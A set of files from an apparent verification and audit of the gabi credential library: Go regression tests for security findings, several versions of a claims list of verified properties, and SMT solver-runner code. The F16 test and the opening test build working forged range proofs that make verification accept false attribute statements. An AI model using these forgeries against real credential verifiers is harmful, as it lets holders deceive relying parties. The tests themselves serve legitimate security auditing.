	require.NoError(t, err)
	fresh := &ProofD{}
	require.NoError(t, json.Unmarshal(forgedBts, fresh))
	t.Logf("(b) forged message in a fresh object: Verify=%v", fresh.Verify(testPubK1, context, nonce, false))
	require.NoError(t, json.Unmarshal(forgedBts, q))
	if q.Verify(testPubK1, context, nonce, false) && q.RangeProofs[1][0].ProvesStatement(1, 1, falseBound) {
		t.Errorf("(b) forged message decoded into an already verified object verifies and 'proves' attr >= attr+1000")
	}

	// (c) a range proof appended after the first verification is never looked at
	r := &ProofD{}
	require.NoError(t, json.Unmarshal(bts, r))
	require.True(t, r.Verify(testPubK1, context, nonce, false))
	bogus := *r.RangeProofs[1][0]
	bogus.K = new(big.Int).Set(falseBound)
	r.RangeProofs[1] = append(r.RangeProofs[1], &bogus)
	if r.Verify(testPubK1, context, nonce, false) && r.RangeProofs[1][1].ProvesStatement(1, 1, falseBound) {
		t.Errorf("(c) range proof appended after the first verification is never looked at but reported as proven")
	}
}
