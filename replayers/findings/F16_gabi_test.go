package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/rangeproof"
	"github.com/stretchr/testify/require"
)

// F16: a range proof whose commitments C_i are all 0 (mod n) makes every reconstructed range-proof commitment 0,
// whatever the responses are (0 has no inverse, ModInverse leaves 0, 0^c = 0; the correctness relation has the
// factors C_i^{d_i} = 0). The holder of any credential can therefore attach a "proof" of a false inequality
// about a hidden attribute: it verifies and Proves() reports the false statement.
func TestF16(t *testing.T) {
	context, err := common.RandomBigInt(testPubK1.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK1.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK1.Params.Lm)
	require.NoError(t, err)
	issuer := NewIssuer(testPrivK1, testPubK1, context)
	cred := createCredential(t, context, secret, issuer)

	// honest disclosure proof machinery without range proof
	builder, err := cred.CreateDisclosureProofBuilder([]int{2}, nil, false)
	require.NoError(t, err)
	randomizers, err := NewProofRandomizers()
	require.NoError(t, err)
	list, err := builder.Commit(randomizers)
	require.NoError(t, err)

	// the forged range proof contributes 1+4 commitments, all 0
	for i := 0; i < 5; i++ {
		list = append(list, big.NewInt(0))
	}
	challenge := createChallenge(context, nonce, list, false)
	proof := builder.CreateProof(challenge).(*ProofD)

	// false statement: attribute 1 >= attribute 1 + 1000000
	falseBound := new(big.Int).Add(testAttributes1[1], big.NewInt(1000000))
	one := func() *big.Int { return big.NewInt(1) }
	forged := &rangeproof.Proof{
		Cs:         []*big.Int{big.NewInt(0), big.NewInt(0), big.NewInt(0), big.NewInt(0)},
		DResponses: []*big.Int{one(), one(), one(), one()},
		VResponses: []*big.Int{one(), one(), one(), one()},
		V5Response: one(),
		Ld:         8,
		Sign:       1,
		A:          1,
		K:          falseBound,
	}
	proof.RangeProofs = map[int][]*rangeproof.Proof{1: {forged}}

	ok := proof.Verify(testPubK1, context, nonce, false)
	stmt := &rangeproof.Statement{Sign: 1, Factor: 1, Bound: falseBound}
	if ok && proof.RangeProofs[1][0].Proves(stmt) {
		t.Errorf("forged range proof with zero commitments verifies and 'proves' attr >= attr + 1000000 (attr = %v)", testAttributes1[1])
	}
}
