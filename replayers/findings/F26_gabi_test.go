package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/revocation"
	"github.com/stretchr/testify/require"
)

// F26: ProofCommit.Update (refresh of a prepared non-revocation commitment after the witness moved to a newer
// accumulator) left C_u = h^epsilon * u unreduced modulo N. Since the verifier insists on 0 < C_u < N (F17), the honest
// proof built from the refreshed commitment was rejected: prepare cache, another credential is revoked, update the
// witness, prove.
func TestF26(t *testing.T) {
	witness, update, acc := setupRevocation(t, testPrivK, testPubK)
	attrs := revocationAttrs(witness)
	signature, err := SignMessageBlock(testPrivK, testPubK, attrs)
	require.NoError(t, err)
	cred := &Credential{Signature: signature, Pk: testPubK, Attributes: attrs, NonRevocationWitness: witness}

	require.NoError(t, cred.NonrevPrepareCache())
	require.Len(t, cred.nonrevCache, 1)

	// revocation of another credential: the accumulator index moves from 0 to 1
	w, err := revocation.RandomWitness(testPrivK, acc)
	require.NoError(t, err)
	acc, event, err := acc.Remove(testPrivK, w.E, update.Events[0])
	require.NoError(t, err)
	update, err = revocation.NewUpdate(testPrivK, acc, []*revocation.Event{event})
	require.NoError(t, err)
	require.NoError(t, cred.NonRevocationWitness.Update(testPubK, update))
	require.NoError(t, cred.NonRevocationWitness.Verify(testPubK))

	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	// consumes the prepared commitment and refreshes it (ProofCommit.Update)
	proofd, err := cred.CreateDisclosureProof([]int{1, 2}, nil, true, context, nonce)
	require.NoError(t, err)
	require.Len(t, cred.nonrevCache, 0)
	require.True(t, proofd.NonRevocationProof.Cu.Cmp(testPubK.N) < 0, "C_u of the refreshed commitment is not reduced modulo N")
	require.True(t, proofd.Verify(testPubK, context, nonce, false), "honest proof from a refreshed commitment is rejected")
}
