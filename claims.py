# Which properties are claimed, with the text that goes into MANIFEST.json. Kept current by hand.
ASSUME_COMMON = ("Trusted: go/ssa front end, SMT solvers' unsat answers, the gvc generator (canaries + cover queries on every run), "
                 "native models of math/big and the standard-library calls listed in the evidence; termination is not proved. ")

claim("C01", "Acceptance by ProofD.VerifyWithChallenge / ProofD.Verify implies: every hidden response and the e-response lie inside the protocol range; no index is both disclosed and hidden; index 0 is never disclosed; every index lies within the key's bases; all mandatory parts are present; the challenge equals the expected one. For all inputs and all map sizes (loop invariants over the map ranges).",
      ASSUME_COMMON + "Not decided: CL-signature soundness (strong RSA / random oracle) - contracts only establish that the verification relation and its side conditions are evaluated.")
claim("C10", "Hash equality is byte equality; event hashing covers index, parent hash and value; EventList.Verify returning nil on an unverified list implies tail-hash, parent-hash chain and consecutive indices; "
      "Update.Verify implies signature/counter check of the accumulator or a cached accumulator; signed.Verify implies DER shape, no trailing bytes and ECDSA acceptance.",
      ASSUME_COMMON + "Not decided: collision resistance of SHA-256, ECDSA unforgeability (premises). cbor/asn1/multihash/ecdsa are external with written contracts.")

claim("C12", "For all integers m, sign, factor, bound and every proof descriptor: ProvesStatement/Proves returning true and the statement a verified proof establishes (Sign*(A*m-K) >= 0) imply the queried inequality over the integers, including 64-bit wrap-around of factor*4; "
      "ProvenStatement reports an inequality that holds for m; ExtractStructure accepts a descriptor only within the documented limits and with sign in {1,-1}; newWithParams puts exactly -a*sign (no wrap) as exponent of R_m.",
      ASSUME_COMMON + "Not decided: the sum-of-squares soundness argument itself (premise); that ProofD.ChallengeContribution verifies every carried range proof is claimed under this property only once those contracts are discharged.")
claim("C13", "NewProofStructure yields a structure whose established statement is equivalent over the integers to the requested one (four squares: both signs; three squares: sign=+1); known finding: three squares with sign=-1 (printed as KNOWN-FINDING). "
      "newWithParams copies sign, factor, bound, l_d and index unchanged.",
      ASSUME_COMMON + "Not decided: that the square splitters return squares summing to the difference (number theory) and that the resulting proof verifies (Schnorr algebra).")
claim("C15", "IntHashSha256(x) = os2ip(sha256(x)) relative to the written contracts of crypto/sha256 (New/Write/Sum).",
      ASSUME_COMMON + "crypto/sha256 and encoding/asn1 are external (trusted contracts). HashCommit/GetHashNumber contracts are added when discharged.")
claim("C19", "ModPow: result = pow(x,y,m) for y>=0; for y<0 the power of the inverse, or ErrNoModInverse exactly when no inverse exists; result in [0,|m|).",
      ASSUME_COMMON + "math/big.Int.Exp/ModInverse are trusted native models (pow, inv uninterpreted). Other helpers are added when discharged.")

claim("C02", "ProofList.Verify returns true only for a non-empty list with as many keys as proofs and matching label count; every proof is checked by VerifyWithChallenge against publicKeys[i] (call-site obligation) and against one expected challenge, so all accepted proofs carry the same challenge value; "
      "createChallenge hands HashCommit exactly [context, contributions..., nonce] with the caller's signature flag (element-wise call-site obligations); HashCommit hands asn1.Marshal exactly [TRUE]?, count, integers in order; challengeContributions concatenates per-proof contributions computed under publicKeys[i].",
      ASSUME_COMMON + "Not decided: SHA-256 collision resistance and DER injectivity (premises) - equal digests are not shown to imply equal tuples; the prover side (ChallengeWithRandomizers) is not yet under contract.")
claim("C03", "ProofList.Verify returns true only if all proofs with the same label (all proofs when no labels are given) have equal secret-key responses, where the response compared is AResponses[0] of a ProofD (index 0 can be neither disclosed nor doubled by a user response after the F2/F3 fixes) and SResponse of a ProofU; loop invariant over the label map, for all list lengths.",
      ASSUME_COMMON + "Premise (listed in the evidence): an accepted ProofD carries a response for attribute 0. Not decided: extraction of the secret from two transcripts; prover side.")
claim("C08", "No nil dereference, index out of range, nil-map write, failed type assertion, division by zero or explicit panic is reachable from ProofList.Verify / ProofD.Verify / ProofU.Verify / ProofS.Verify for well-formed keys and any decodable proof list (every pointer nil or valid, arbitrary map keys, nil map values, nil slice members), and acceptance implies the structure predicate; "
      "whole call graph of the gabi package verification path plus revocation.Proof.SetExpected/ChallengeContributions/VerifyWithChallenge, SignedAccumulator.UnmarshalVerify, signed.Verify/UnmarshalVerify, rangeproof ExtractStructure/VerifyProofStructure, common.ModPow/HashCommit/IntHashSha256.",
      ASSUME_COMMON + "Trusted contracts (bodies not verified, preconditions verified at call sites): revocation.proofStructure.commitmentsFromProof and rangeproof.ProofStructure.CommitmentsFromProof (string-keyed zkproof lookups). Decodability assumptions: big integers decoded from JSON are non-negative; list elements are distinct objects; caches are empty. JSON/CBOR decoders are external.")
claim("C11", "A ProofD with a non-revocation part is accepted only if: a hidden response below 2^580 exists and alpha equals it in value; all five responses, C_r, C_u, Nu and the challenge are present; alpha <= B*2^(k'+k''+1); the signed accumulator was verified under pk (or is the cached one) and Nu equals its Nu; the non-revocation challenge equals the expected challenge. revocationAttrIndex returns such an index or -1 when none exists.",
      ASSUME_COMMON + "Not decided: accumulator soundness; the 'if' direction (honest proofs verify); refresh of prepared commitments (ProofCommit.Update) not yet under contract.")

for pid in ["C04", "C05", "C06", "C07", "C09", "C14", "C16", "C17", "C18", "C20"]:
    na(pid, "contracts for this property are not yet discharged in this round of the build; no check is registered until its obligations run green (see DESIGN.md section 7, build order)")
