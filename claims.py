# Which properties are claimed, with the text that goes into MANIFEST.json. Kept current by hand.
ASSUME_COMMON = ("Trusted: go/ssa front end, SMT solvers' unsat answers, the gvc generator (canaries + cover queries on every run), "
                 "native models of math/big and the standard-library calls listed in the evidence; termination is not proved. ")

claim("C01", "Obligations generated from the real verify path: acceptance by ProofD.VerifyWithChallenge implies the response-size checks "
      "(every hidden response and the e-response inside the protocol range). Proof holds for all inputs and all map sizes (loop invariant over the map range).",
      ASSUME_COMMON + "Not decided: CL-signature soundness (strong RSA / random oracle) - contracts only establish that the verification relation and its side conditions are evaluated.")
claim("C10", "Hash equality is byte equality; event hashing covers index, parent hash and value; EventList.Verify returning nil on an unverified list implies tail-hash, parent-hash chain and consecutive indices; "
      "Update.Verify implies signature/counter check of the accumulator or a cached accumulator; signed.Verify implies DER shape, no trailing bytes and ECDSA acceptance.",
      ASSUME_COMMON + "Not decided: collision resistance of SHA-256, ECDSA unforgeability (premises). cbor/asn1/multihash/ecdsa are external with written contracts.")

for pid in ["C02", "C03", "C04", "C05", "C06", "C07", "C08", "C09", "C11", "C12", "C13", "C14", "C15", "C16", "C17", "C18", "C19", "C20"]:
    na(pid, "contracts for this property are not yet discharged in this round of the build; no check is registered until its obligations run green (see DESIGN.md section 7, build order)")
