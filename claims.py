# Which properties are claimed, with the text that goes into MANIFEST.json. Kept current by hand.
ASSUME_COMMON = ("Trusted: go/ssa front end, SMT solvers' unsat answers, the gvc generator (canaries + cover queries on every run), "
                 "native models of math/big and the standard-library calls listed in the evidence; termination is not proved. ")

claim("C01", "Obligations generated from the real verify path: acceptance by ProofD.VerifyWithChallenge implies the response-size checks "
      "(every hidden response and the e-response inside the protocol range). Proof holds for all inputs and all map sizes (loop invariant over the map range).",
      ASSUME_COMMON + "Not decided: CL-signature soundness (strong RSA / random oracle) - contracts only establish that the verification relation and its side conditions are evaluated.")
claim("C10", "Hash equality is byte equality; event hashing covers index, parent hash and value; EventList.Verify returning nil on an unverified list implies tail-hash, parent-hash chain and consecutive indices; "
      "Update.Verify implies signature/counter check of the accumulator or a cached accumulator; signed.Verify implies DER shape, no trailing bytes and ECDSA acceptance.",
      ASSUME_COMMON + "Not decided: collision resistance of SHA-256, ECDSA unforgeability (premises). cbor/asn1/multihash/ecdsa are external with written contracts.")

claim("C12", "For all integers m, sign, factor, bound and every proof descriptor: ProvesStatement/Proves returning true and the statement a verified proof establishes (Sign*(A*m-K) >= 0) imply the queried inequality over the integers, including 64-bit wrap-around of factor*4; "
      "ProvenStatement reports an inequality that holds for m; ExtractStructure accepts a descriptor only within the documented limits and with sign in {1,-1}; newWithParams puts exactly -a*sign (no wrap) as exponent of R_m.",
      ASSUME_COMMON + "Not decided: the sum-of-squares soundness argument itself (premise); that ProofD.ChallengeContribution verifies every carried range proof is claimed under this property only once those contracts are discharged.")
claim("C13", "NewProofStructure yields a structure whose established statement is equivalent over the integers to the requested one (four squares: both signs; three squares: sign=+1); known finding: three squares with sign=-1 (printed as KNOWN-FINDING). "
      "newWithParams copies sign, factor, bound, l_d and index unchanged.",
      ASSUME_COMMON + "Not decided: that the square splitters return squares summing to the difference (number theory) and that the resulting proof verifies (Schnorr algebra).")
claim("C15", "IntHashSha256(x) = os2ip(sha256(x)) relative to the written contracts of crypto/sha256 (New/Write/Sum).",
      ASSUME_COMMON + "crypto/sha256 and encoding/asn1 are external (trusted contracts). HashCommit/GetHashNumber contracts are added when discharged.")
claim("C19", "ModPow: result = pow(x,y,m) for y>=0; for y<0 the power of the inverse, or ErrNoModInverse exactly when no inverse exists; result in [0,|m|).",
      ASSUME_COMMON + "math/big.Int.Exp/ModInverse are trusted native models (pow, inv uninterpreted). Other helpers are added when discharged.")

for pid in ["C02", "C03", "C04", "C05", "C06", "C07", "C08", "C09", "C11", "C14", "C16", "C17", "C18", "C20"]:
    na(pid, "contracts for this property are not yet discharged in this round of the build; no check is registered until its obligations run green (see DESIGN.md section 7, build order)")
