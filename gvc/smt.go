package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"time"
)

// ---- term helpers (terms are SMT-LIB strings) ----

func sApp(f string, args ...string) string {
	return "(" + f + " " + strings.Join(args, " ") + ")"
}
func sAnd(args ...string) string {
	var a []string
	for _, x := range args {
		if x == "true" {
			continue
		}
		if x == "false" {
			return "false"
		}
		a = append(a, x)
	}
	if len(a) == 0 {
		return "true"
	}
	if len(a) == 1 {
		return a[0]
	}
	return sApp("and", a...)
}
func sOr(args ...string) string {
	var a []string
	for _, x := range args {
		if x == "false" {
			continue
		}
		if x == "true" {
			return "true"
		}
		a = append(a, x)
	}
	if len(a) == 0 {
		return "false"
	}
	if len(a) == 1 {
		return a[0]
	}
	return sApp("or", a...)
}
func sNot(x string) string {
	if x == "true" {
		return "false"
	}
	if x == "false" {
		return "true"
	}
	if strings.HasPrefix(x, "(not ") && balanced(x[5:len(x)-1]) {
		return x[5 : len(x)-1]
	}
	return sApp("not", x)
}
func balanced(s string) bool {
	d := 0
	for _, c := range s {
		if c == '(' {
			d++
		} else if c == ')' {
			d--
			if d < 0 {
				return false
			}
		}
	}
	return d == 0
}
func sImp(a, b string) string {
	if a == "true" {
		return b
	}
	if b == "true" {
		return "true"
	}
	return sApp("=>", a, b)
}
func sEq(a, b string) string {
	if a == b {
		return "true"
	}
	return sApp("=", a, b)
}
func sIte(c, a, b string) string {
	if c == "true" {
		return a
	}
	if c == "false" {
		return b
	}
	if a == b {
		return a
	}
	return sApp("ite", c, a, b)
}
func sSel(a, i string) string      { return sApp("select", a, i) }
func sStore(a, i, v string) string { return sApp("store", a, i, v) }
func sInt(n int64) string {
	if n < 0 {
		return fmt.Sprintf("(- %d)", -n)
	}
	return fmt.Sprintf("%d", n)
}
func sBig(n *big.Int) string {
	if n.Sign() < 0 {
		return "(- " + new(big.Int).Neg(n).String() + ")"
	}
	return n.String()
}
func sym(name string) string {
	// quote when needed
	ok := true
	for _, c := range name {
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '!' || c == '$' || c == '.' || c == '@') {
			ok = false
			break
		}
	}
	if ok && len(name) > 0 && !(name[0] >= '0' && name[0] <= '9') {
		return name
	}
	return "|" + strings.NewReplacer("|", "_", "\\", "_").Replace(name) + "|"
}

const prelude = `(set-option :produce-models true)
(set-logic ALL)
(declare-fun sl_arr (Int) Int)
(declare-fun sl_off (Int) Int)
(declare-fun sl_len (Int) Int)
(declare-fun sl_cap (Int) Int)
(assert (and (= (sl_arr 0) 0) (= (sl_off 0) 0) (= (sl_len 0) 0) (= (sl_cap 0) 0)))
(define-fun slwf ((s Int)) Bool (and (>= (sl_arr s) 0) (>= (sl_off s) 0) (>= (sl_len s) 0) (>= (sl_cap s) (sl_len s)) (=> (= (sl_arr s) 0) (= (sl_cap s) 0)) (<= (sl_cap s) 281474976710656)))
(declare-fun itype (Int) Int)
(declare-fun ipay (Int) Int)
(declare-fun mkiface (Int Int) Int)
(assert (= (itype 0) 0))
(declare-fun strlen (Int) Int)
(assert (= (strlen 0) 0))
(declare-fun strcat (Int Int) Int)
(declare-fun subroot (Int) Int)
(define-fun isold ((r Int) (a Int)) Bool (or (and (< 0 r) (<= r a)) (and (< r 0) (< 0 (subroot r)) (<= (subroot r) a))))
(define-fun wrapU64 ((x Int)) Int (ite (and (<= 0 x) (<= x 18446744073709551615)) x (mod x 18446744073709551616)))
(define-fun wrapI64 ((x Int)) Int (ite (and (<= (- 9223372036854775808) x) (<= x 9223372036854775807)) x (- (mod (+ x 9223372036854775808) 18446744073709551616) 9223372036854775808)))
(define-fun wrapU32 ((x Int)) Int (ite (and (<= 0 x) (<= x 4294967295)) x (mod x 4294967296)))
(define-fun wrapI32 ((x Int)) Int (ite (and (<= (- 2147483648) x) (<= x 2147483647)) x (- (mod (+ x 2147483648) 4294967296) 2147483648)))
(define-fun wrapU16 ((x Int)) Int (ite (and (<= 0 x) (<= x 65535)) x (mod x 65536)))
(define-fun wrapI16 ((x Int)) Int (ite (and (<= (- 32768) x) (<= x 32767)) x (- (mod (+ x 32768) 65536) 32768)))
(define-fun wrapU8 ((x Int)) Int (ite (and (<= 0 x) (<= x 255)) x (mod x 256)))
(define-fun wrapI8 ((x Int)) Int (ite (and (<= (- 128) x) (<= x 127)) x (- (mod (+ x 128) 256) 128)))
(define-fun tdiv ((a Int) (b Int)) Int (ite (>= a 0) (ite (> b 0) (div a b) (- (div a (- b)))) (ite (> b 0) (- (div (- a) b)) (div (- a) (- b)))))
(define-fun trem ((a Int) (b Int)) Int (- a (* b (tdiv a b))))
(define-fun absI ((a Int)) Int (ite (>= a 0) a (- a)))
(declare-fun pow2 (Int) Int)
(declare-fun bitlen (Int) Int)
(assert (forall ((x Int)) (! (and (>= (bitlen x) 0) (<= (bitlen x) 4611686018427387904) (= (= x 0) (= (bitlen x) 0))) :pattern ((bitlen x)))))
(assert (forall ((x Int)) (! (>= (pow2 x) 1) :pattern ((pow2 x)))))
(declare-fun powmod (Int Int Int) Int)
(declare-fun ipow (Int Int) Int)
(declare-fun hasinv (Int Int) Bool)
(declare-fun minv (Int Int) Int)
(declare-fun gcdf (Int Int) Int)
(declare-fun itkey (Int Int) Int)
(declare-fun itdone (Int) Bool)
(declare-fun isprime (Int) Bool)
(declare-fun bigand (Int Int) Int)
(declare-fun bigor (Int Int) Int)
(declare-fun bigxor (Int Int) Int)
(declare-fun bignot (Int) Int)
(declare-fun bitand64 (Int Int) Int)
(declare-fun bitor64 (Int Int) Int)
(declare-fun bitxor64 (Int Int) Int)
(declare-fun shl64 (Int Int) Int)
(declare-fun shr64 (Int Int) Int)
(declare-fun bseq ((Array Int Int) Int Int) Int)
(declare-fun os2ip (Int) Int)
(declare-fun bytelen (Int) Int)
(declare-fun sha256 (Int) Int)
(declare-fun isqrt (Int) Int)
(declare-fun jacobi (Int Int) Int)
(declare-fun bigbit (Int Int) Int)
(declare-fun card ((Array Int Bool)) Int)
(declare-fun strof (Int) Int)
(declare-fun u2s (Int Int) Int)
`

// ---- solver runner ----

type SolverResult struct {
	Status string // unsat, sat, unknown, timeout, error
	Solver string
	Out    string
	Secs   float64
}

// proofCache: a query text that some solver already answered unsat need not be solved again (identical text,
// identical answer). Only unsat answers are cached.
var proofCacheDir = ""

func cacheKey(file string) string {
	data, err := os.ReadFile(file)
	if err != nil {
		return ""
	}
	h := sha256.Sum256(data)
	return hex.EncodeToString(h[:])
}

func runSolver(name string, file string, timeoutS int) SolverResult {
	key := ""
	if proofCacheDir != "" {
		key = cacheKey(file)
		if key != "" {
			if b, err := os.ReadFile(filepath.Join(proofCacheDir, key)); err == nil {
				return SolverResult{Status: "unsat", Solver: strings.TrimSpace(string(b)) + "[cached]", Secs: 0}
			}
		}
	}
	r := runSolverRaw(name, file, timeoutS)
	if r.Status == "unsat" && key != "" {
		_ = os.WriteFile(filepath.Join(proofCacheDir, key), []byte(name), 0o644)
	}
	return r
}

func runSolverRaw(name string, file string, timeoutS int) SolverResult {
	var cmd *exec.Cmd
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(timeoutS+2)*time.Second)
	defer cancel()
	switch name {
	case "z3-new":
		cmd = exec.CommandContext(ctx, "z3-new", fmt.Sprintf("-T:%d", timeoutS), file)
	case "z3":
		cmd = exec.CommandContext(ctx, "z3", fmt.Sprintf("-T:%d", timeoutS), file)
	case "cvc5":
		cmd = exec.CommandContext(ctx, "cvc5", fmt.Sprintf("--tlimit=%d", timeoutS*1000), "--produce-models", file)
	}
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	t0 := time.Now()
	_ = cmd.Run()
	secs := time.Since(t0).Seconds()
	atomic.AddInt64(&statSolveNs, int64(time.Since(t0)))
	s := out.String()
	first := ""
	for _, ln := range strings.Split(s, "\n") {
		ln = strings.TrimSpace(ln)
		if ln == "" || strings.HasPrefix(ln, "WARNING") || strings.HasPrefix(ln, "(warning") {
			continue
		}
		first = ln
		break
	}
	st := "error"
	switch {
	case first == "unsat":
		st = "unsat"
	case first == "sat":
		st = "sat"
	case first == "unknown":
		st = "unknown"
	case strings.Contains(first, "timeout") || ctx.Err() != nil || strings.Contains(s, "interrupted"):
		st = "timeout"
	}
	return SolverResult{Status: st, Solver: name, Out: s, Secs: secs}
}

// solveOb discharges one obligation with a portfolio of query variants, each sound (hypotheses are only dropped):
//
//	ground: contract-level quantified hypotheses replaced by their instances at candidate terms, relevance-filtered
//	lite:   heap-closedness and quantified frame axioms dropped (their ground instances stay)
//	full:   everything
//
// A sat answer counts only on the full query; a sat answer on the lite query is reported as "sat-lite".
func solveOb(o *Obligation, qdir string, timeoutS int, thorough bool, expectSat bool) (SolverResult, []SolverResult, string) {
	var all []SolverResult
	base := o.Func + "__" + o.Name
	if expectSat {
		full := writeQuery(qdir, base, o.BuildQuery(false, false))
		r := runSolver("z3-new", full, timeoutS)
		all = append(all, r)
		return r, all, full
	}
	if o.Kind == "lemma" {
		// a lemma is a closed arithmetic statement over fresh constants: all three solvers at once on the complete query
		// (cvc5 decides the nonlinear remainder lemmas on which both z3 versions give up)
		full := writeQuery(qdir, base, o.BuildQuery(false, false))
		lch := make(chan SolverResult, 3)
		for _, sv := range []string{"cvc5", "z3-new", "z3"} {
			go func(sv string) {
				x := runSolver(sv, full, timeoutS)
				x.Solver = sv
				lch <- x
			}(sv)
		}
		var best SolverResult
		for k := 0; k < 3; k++ {
			x := <-lch
			all = append(all, x)
			if k == 0 || (best.Status != "unsat" && (x.Status == "unsat" || x.Status == "sat")) {
				best = x
			}
			if x.Status == "unsat" && !thorough {
				break
			}
		}
		return best, all, full
	}
	// micro: only hypotheses within three trigger steps of the goal
	micro := writeQuery(qdir, base+".micro", o.BuildQueryD(false, true, true, true, 1.0, 3))
	gm := runSolver("z3-new", micro, minInt(timeoutS, 1))
	gm.Solver = "z3-new(ground,micro)"
	all = append(all, gm)
	if gm.Status == "unsat" && !thorough {
		return gm, all, micro
	}
	tight := writeQuery(qdir, base+".tight", o.BuildQueryT(false, true, true, true, 1.0))
	gt := runSolver("z3-new", tight, minInt(timeoutS, 1))
	gt.Solver = "z3-new(ground,tight)"
	all = append(all, gt)
	if gt.Status == "unsat" && !thorough {
		return gt, all, tight
	}
	lite := writeQuery(qdir, base+".lite", o.BuildQuery(false, true))
	// both z3 versions at once: each decides in a fraction of a second goals on which the other needs its whole budget
	type lr struct {
		res SolverResult
		tag string
	}
	lch := make(chan lr, 2)
	for _, sv := range []string{"z3-new", "z3"} {
		go func(sv string) {
			x := runSolver(sv, lite, minInt(timeoutS, 5))
			lch <- lr{x, sv + "(lite)"}
		}(sv)
	}
	var r SolverResult
	gotNew := false
	for k := 0; k < 2; k++ {
		x := <-lch
		x.res.Solver = x.tag
		all = append(all, x.res)
		if x.res.Status == "unsat" && !thorough {
			return x.res, all, lite
		}
		if x.tag == "z3-new(lite)" || !gotNew {
			r = x.res
			gotNew = gotNew || x.tag == "z3-new(lite)"
		}
		if x.res.Status == "unsat" {
			r = x.res
		}
	}
	ground := writeQuery(qdir, base+".ground", o.BuildQueryT(false, true, true, true, 2.0))
	// in the retry pass (three times the budget, three obligations at a time) the ground variant gets half of it
	gb := 8
	if timeoutS/2 > gb {
		gb = timeoutS / 2
	}
	g := runSolver("z3-new", ground, minInt(timeoutS, gb))
	g.Solver = "z3-new(ground)"
	all = append(all, g)
	if g.Status == "unsat" && !thorough {
		return g, all, ground
	}
	if gt.Status == "unsat" {
		g = gt
	}
	if r.Status != "unsat" && r.Status != "sat" {
		// give the lite query the full budget, this time with ground closedness and frame instances for the
		// reads that only exist in instantiated hypotheses
		lite = writeQuery(qdir, base+".lite", o.BuildQueryX(false, true, false, false, 2.0, 1<<30, true))
		r2 := runSolver("z3-new", lite, timeoutS)
		r2.Solver = "z3-new(lite+)"
		all = append(all, r2)
		if r2.Status == "unsat" && !thorough {
			return r2, all, lite
		}
		r = r2
	}
	best := r
	if g.Status == "unsat" {
		best = g
	}
	liteSat := r.Status == "sat"
	full := writeQuery(qdir, base, o.BuildQuery(false, false))
	if best.Status != "unsat" {
		// the complete query, on both z3 versions at once
		fch := make(chan SolverResult, 2)
		for _, sv := range []string{"z3-new", "z3"} {
			go func(sv string) {
				x := runSolver(sv, full, timeoutS)
				x.Solver = sv
				fch <- x
			}(sv)
		}
		var r2 SolverResult
		for k := 0; k < 2; k++ {
			x := <-fch
			all = append(all, x)
			if k == 0 || x.Status == "unsat" || (x.Status == "sat" && r2.Status != "unsat") {
				r2 = x
			}
			if x.Status == "unsat" {
				break
			}
		}
		best = r2
		if (r2.Status == "unsat" || r2.Status == "sat") && !thorough {
			return r2, all, full
		}
		if liteSat && !thorough {
			best.Status = "sat-lite"
			best.Solver = "z3-new(lite)"
			return best, all, lite
		}
	}
	type job struct{ solver, file, tag string }
	jobs := []job{{"z3", ground, "z3(ground)"}, {"cvc5", ground, "cvc5(ground)"}, {"z3", lite, "z3(lite)"}, {"cvc5", lite, "cvc5(lite)"}, {"z3", full, "z3"}, {"cvc5", full, "cvc5"}}
	ch := make(chan SolverResult, len(jobs))
	for _, j := range jobs {
		go func(j job) {
			x := runSolver(j.solver, j.file, timeoutS)
			if strings.HasSuffix(j.tag, ")") && x.Status == "sat" {
				x.Status = "unknown"
			}
			x.Solver = j.tag
			ch <- x
		}(j)
	}
	for range jobs {
		x := <-ch
		all = append(all, x)
		if best.Status != "unsat" && x.Status == "unsat" {
			best = x
		}
		if best.Status != "unsat" && best.Status != "sat" && x.Status == "sat" {
			best = x
		}
	}
	file := full
	if thorough && best.Status == "unsat" {
		// thorough tier: every solver is asked about the complete query; one that refutes what another proves is
		// reported (a weakened variant answering sat is expected and does not count)
		for _, x := range all {
			if x.Status == "sat" && !strings.HasSuffix(x.Solver, ")") {
				best.Status = "disagree"
				best.Solver = best.Solver + " vs " + x.Solver
			}
		}
	}
	if liteSat && best.Status != "unsat" && best.Status != "sat" {
		best.Status = "sat-lite"
		best.Solver = "z3-new(lite)"
		file = lite
	}
	return best, all, file
}

func queryPath(dir, name string) string {
	safe := strings.NewReplacer("/", "_", " ", "_", "*", "p", "(", "", ")", "", ":", "_", "[", "_", "]", "_", "|", "_", "<", "lt", ">", "gt", "&", "a", "\"", "", "'", "", ",", "_", "!", "n", "=", "e", "{", "", "}", "", "#", "h").Replace(name)
	if len(safe) > 180 {
		safe = safe[:180]
	}
	return filepath.Join(dir, safe+".smt2")
}

var statBuildNs, statSolveNs int64

func writeQuery(dir, name string, body string) string {
	safe := strings.NewReplacer("/", "_", " ", "_", "*", "p", "(", "", ")", "", ":", "_", "[", "_", "]", "_", "|", "_", "<", "lt", ">", "gt", "&", "a", "\"", "", "'", "", ",", "_", "!", "n", "=", "e", "{", "", "}", "", "#", "h").Replace(name)
	if len(safe) > 180 {
		safe = safe[:180]
	}
	p := filepath.Join(dir, safe+".smt2")
	_ = os.WriteFile(p, []byte(body), 0o644)
	return p
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
