package main

import (
	"fmt"
	"go/token"
	"go/types"
	"math/big"
	"regexp"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type bigInt = big.Int

var bigOne = big.NewInt(1)

func (fr *Frame) setResult(ins ssa.CallInstruction, v Val) {
	if val, ok := ins.(ssa.Value); ok {
		fr.env[val] = v
	}
}

